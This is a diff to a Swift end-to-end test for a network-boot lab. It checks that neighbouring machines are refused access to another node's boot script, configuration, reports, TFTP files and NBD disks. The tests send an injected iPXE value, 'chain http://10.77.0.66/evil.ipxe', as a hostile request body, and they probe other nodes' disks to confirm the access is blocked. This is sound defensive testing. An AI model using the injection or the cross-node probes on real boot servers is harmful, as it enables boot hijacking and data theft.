@@ -110,6 +110,34 @@ extension EndToEnd.Machines {
             try BootLab.requireDocumented("secrets/keep-token", "Secret")
         }
 
+        // What belongs to the first node alone: below its path what it asks, what it posts the key of a boot or a sealed request to, and its
+        // reports; and its disks.
+
+        private static func questions(in boot: String) -> [String] {
+            [
+                "boot.ipxe", "orders?boot=\(boot)", "register?name=stolen", "tpm?boot=\(boot)",
+                "ticket?boot=\(boot)", "nodes?boot=\(boot)&question=\(String(repeating: "0", count: 32))",
+            ]
+        }
+
+        private static func keyed(in boot: String) -> [String] {
+            [
+                "configuration?boot=\(boot)", "configuration?boot=00000000deadbeef", "apply?boot=\(boot)",
+                "ticket?boot=\(boot)&run=0", "tpm?boot=\(boot)",
+            ]
+        }
+
+        private static func reports(in boot: String) -> [String] {
+            [
+                "report?boot=\(boot)&stage=failed", "report?boot=00000000deadbeef&stage=ready",
+                "hardware?boot=\(boot)", "sessions?boot=\(boot)", "steps?boot=\(boot)&phase=init",
+            ]
+        }
+
+        private static func disks(in boot: String) -> [String] {
+            ["volume/keep-1/\(boot)", "swap/keep-1/\(boot)"]
+        }
+
         /// Two neighbours, one without a lease and one with another node's, request data of the first node, which is up.
         private func attack() throws {
             let mac = Self.macs[0]
@@ -122,28 +150,25 @@ extension EndToEnd.Machines {
             let evil = "x && chain http://10.77.0.66/evil.ipxe || y"
             let key = String(repeating: "k", count: 32)
             for neighbour in [stranger, other] {
-                for path in [
-                    "boot.ipxe", "orders?boot=\(boot)", "register?name=stolen",
-                ] {
+                for path in Self.questions(in: boot) {
                     let answer = try neighbour.ask("node/\(mac)/\(path)")
                     #expect(answer.status == "403", "\(path)")
                     #expect(!answer.text.contains(boot), "\(path)")
                 }
-                for path in ["configuration?boot=\(boot)", "configuration?boot=00000000deadbeef"] {
+                for path in Self.keyed(in: boot) {
                     #expect(try neighbour.ask("node/\(mac)/\(path)", body: key).status == "403", "\(path)")
                 }
-                for path in [
-                    "report?boot=\(boot)&stage=failed", "report?boot=00000000deadbeef&stage=ready",
-                    "hardware?boot=\(boot)", "sessions?boot=\(boot)",
-                ] {
+                for path in Self.reports(in: boot) {
                     #expect(try neighbour.ask("node/\(mac)/\(path)", body: evil).status == "403", "\(path)")
                 }
                 for name in ["node/\(mac)/boot.ipxe", "grub.cfg-01-\(mac.replacing(":", with: "-"))"] {
                     let answer = try? neighbour.run(["curl", "-s", "-m", "20", "tftp://10.77.0.1/\(name)"])
                     #expect(answer?.contains(boot) != true, "\(name)")
                 }
-                #expect(throws: CommandFailed.self) {
-                    try neighbour.run(["nbdinfo", "nbd://10.77.0.1/volume/keep-1/\(boot)"])
+                for name in Self.disks(in: boot) {
+                    #expect(throws: CommandFailed.self, "\(name)") {
+                        try neighbour.run(["nbdinfo", "nbd://10.77.0.1/\(name)"])
+                    }
                 }
             }
             // The other node still gets its own data, and reports for another boot count nowhere.
@@ -181,21 +206,22 @@ extension EndToEnd.Machines {
                     let node = try lab.json("node", "show", "keep-1") as? [String: Any]
                     let boots = node?["boots"] as? [[String: Any]]
                     let boot = boots?.first?["boot"] as? String ?? "00000000deadbeef"
-                    let key = String(repeating: "k", count: 32)
                     for neighbour in [stranger, other] {
-                        for (path, body) in [
-                            ("boot.ipxe", nil), ("orders?boot=\(boot)", nil),
-                            ("configuration?boot=\(boot)", key),
-                            ("report?boot=\(boot)&stage=failed", "x && chain http://10.77.0.66/ || y"),
-                            ("hardware?boot=\(boot)", "{}"),
+                        for (paths, body) in [
+                            (Self.questions(in: boot), nil),
+                            (Self.keyed(in: boot), String(repeating: "k", count: 32)),
+                            (Self.reports(in: boot), "x && chain http://10.77.0.66/ || y"),
                         ] {
-                            statuses.insert(
-                                try neighbour.ask("node/\(Self.macs[0])/\(path)", body: body).status)
+                            statuses.formUnion(
+                                try neighbour.statuses(paths.map { "node/\(Self.macs[0])/\($0)" }, body: body)
+                            )
                         }
-                        for name in ["volume/keep-1/\(boot)", "swap/keep-1/\(boot)"] {
-                            if (try? neighbour.run(["nbdinfo", "nbd://10.77.0.1/\(name)"])) != nil {
-                                opened += 1
-                            }
+                        let script = "tftp://10.77.0.1/node/\(Self.macs[0])/boot.ipxe"
+                        let answer = try? neighbour.run(["curl", "-s", "-m", "20", script])
+                        if answer?.contains(boot) == true { opened += 1 }
+                        for name in Self.disks(in: boot)
+                        where (try? neighbour.run(["nbdinfo", "nbd://10.77.0.1/\(name)"])) != nil {
+                            opened += 1
                         }
                     }
                     // The machine has its own processor on a real network.
